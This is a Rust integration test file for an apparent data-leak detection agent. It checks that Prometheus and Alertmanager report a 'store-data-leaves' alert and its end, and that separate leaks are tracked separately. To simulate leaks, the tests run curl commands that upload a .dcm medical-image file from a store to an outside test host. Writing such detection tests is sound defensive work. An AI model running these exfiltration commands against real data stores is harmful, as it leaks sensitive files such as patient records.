//! From the leak to the people on call: a real Prometheus, a real Alertmanager, and two leaks that must not be mixed up.

use jaga_tests::agent::{METRICS, is};
use jaga_tests::daemons;
use jaga_tests::leak::Leak;
use jaga_tests::net::OUT;
use jaga_tests::process::{Running, Unit};
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};

#[test]
fn prometheus_and_alertmanager_show_the_leak_and_its_end() {
    let Some(world) = World::new("prometheus_and_alertmanager_show_the_leak_and_its_end") else {
        return;
    };
    if !daemons::has("prometheus", "prometheus")
        || !daemons::has("prometheus-alertmanager", "prometheus-alertmanager")
    {
        return;
    }
    let alertmanager = daemons::alertmanager(9093, None);
    let prometheus = daemons::prometheus(&format!(
        "global: {{ scrape_interval: 1s }}\nscrape_configs: [ {{ job_name: jaga, static_configs: [ {{ targets: ['{METRICS}'] }} ] }} ]\n"
    ));
    let store = world.store("ekg", 1, 200 * MB);
    let outputs = format!(
        "outputs:\n  - alertmanager: {{ url: \"{}\" }}\n",
        alertmanager.url()
    );
    let mut agent = world.agent(&[("ekg", &store)], &outputs);
    // `increase()` misses an alert whose counter was never seen at 0.
    until("Prometheus to see the agent", 30, || {
        let none = "jaga_alerts_total{rule='store-data-leaves'} == 0";
        daemons::query(&prometheus, none)
    });
    let unit = Unit::new("jagat-oncall.service");
    let before = world.net.out.received();
    let mut curl = Running::start(&mut unit.shell(&format!(
        "curl -sfT {}/0000.dcm --limit-rate 40M http://{OUT}/",
        store.display()
    )));

    let shown = until("Alertmanager to show the leak", 20, || {
        daemons::alerts(&alertmanager)
            .into_iter()
            .find(|alert| alert["labels"]["alertname"] == "JagaStoreDataLeaves")
    });
    assert!(curl.is_running(), "the alert came after the leak had ended");
    for (label, value) in [
        ("rule", "store-data-leaves"),
        ("severity", "critical"),
        ("store", "ekg"),
        ("instance", "live"),
        ("site", "test"),
        ("size", "1x"),
    ] {
        assert_eq!(shown["labels"][label], value, "{label} of {shown}");
    }
    let text = shown["annotations"].to_string();
    for told in [unit.session().as_str(), OUT] {
        assert!(text.contains(told), "{told} is not told in {text}");
    }
    assert!(
        !shown.to_string().contains("0000.dcm"),
        "a file's name left the host: {shown}"
    );

    let page = agent.metrics().expect("metrics are served during the leak");
    let (content, said) = daemons::check(
        std::process::Command::new("promtool").args(["check", "metrics"]),
        &page,
    );
    assert!(content, "promtool check metrics: {said}");
    assert!(
        agent.metric(
            "jaga_alerts_firing",
            &[("rule", "store-data-leaves"), ("store", "ekg")]
        ) == Some(1.0),
        "{page}"
    );

    curl.wait(30);
    #[expect(clippy::cast_precision_loss, reason = "200 MB fit a double")]
    let arrived = (world.net.out.received() - before) as f64;
    until("Prometheus to show the exposed bytes", 20, || {
        let seen = daemons::query(
            &prometheus,
            "sum(jaga_store_exposed_bytes_total{store='ekg'})",
        )?;
        (seen > arrived * 0.99 && seen < arrived * 1.01).then_some(())
    });
    until("Prometheus to show the alert", 20, || {
        daemons::query(
            &prometheus,
            "increase(jaga_alerts_total{rule='store-data-leaves'}[1m])",
        )
        .filter(|more| *more > 0.0)
    });
    agent.alert("store-data-leaves", "resolved", &[("store", "ekg")]);
    until("Alertmanager to show its end", 20, || {
        daemons::alerts(&alertmanager)
            .iter()
            .all(|alert| alert["labels"]["alertname"] != "JagaStoreDataLeaves")
            .then_some(())
    });
    agent.replay_equals_live();
}

#[test]
fn the_end_of_one_leak_does_not_resolve_another() {
    let Some(world) = World::new("the_end_of_one_leak_does_not_resolve_another") else {
        return;
    };
    let ekg = world.store("ekg", 1, 400 * MB);
    let lab = world.store("lab", 1, 150 * MB);
    let mut agent = world.agent(&[("ekg", &ekg), ("lab", &lab)], "");
    let before = world.net.out.received();
    let long = Unit::new("jagat-long.service");
    let mut long_leak = Running::start(&mut long.shell(&format!(
        "curl -sfT {}/0000.dcm --limit-rate 40M http://{OUT}/",
        ekg.display()
    )));
    world
        .login(
            "jagat-bob",
            &format!("curl -sfT {}/0000.dcm http://{OUT}/", lab.display()),
        )
        .done(30);

    let leak = |store, session| Leak {
        rule: "store-data-leaves",
        store,
        session,
        destination: OUT,
        scopes: &["external"],
    };
    let (ekg_session, lab_key) = (
        long.session(),
        [("store", "lab"), ("session", "login:jagat-bob")],
    );
    let ekg_key = [("store", "ekg"), ("session", ekg_session.as_str())];
    let one = agent.alert("store-data-leaves", "firing", &ekg_key);
    let other = agent.alert("store-data-leaves", "firing", &lab_key);
    leak("ekg", &ekg_session).names_it(&one);
    leak("lab", "login:jagat-bob").names_it(&other);
    assert_ne!(one["id"], other["id"]);

    agent.alert("store-data-leaves", "resolved", &lab_key);
    assert!(
        long_leak.is_running(),
        "the longer leak ended too early to tell anything"
    );
    let has_ended = |agent: &jaga_tests::agent::Agent| {
        agent
            .alerts()
            .iter()
            .any(|alert| is(alert, "store-data-leaves", "resolved", &ekg_key))
    };
    assert!(!has_ended(&agent), "the end of one leak resolved the other");
    long_leak.wait(30);
    agent.alert("store-data-leaves", "resolved", &ekg_key);
    leak("lab", "login:jagat-bob").is_true(&agent, 150 * MB);
    leak("ekg", &ekg_session).is_true(&agent, world.net.out.received() - before - 150 * MB);
    agent.replay_equals_live();
}
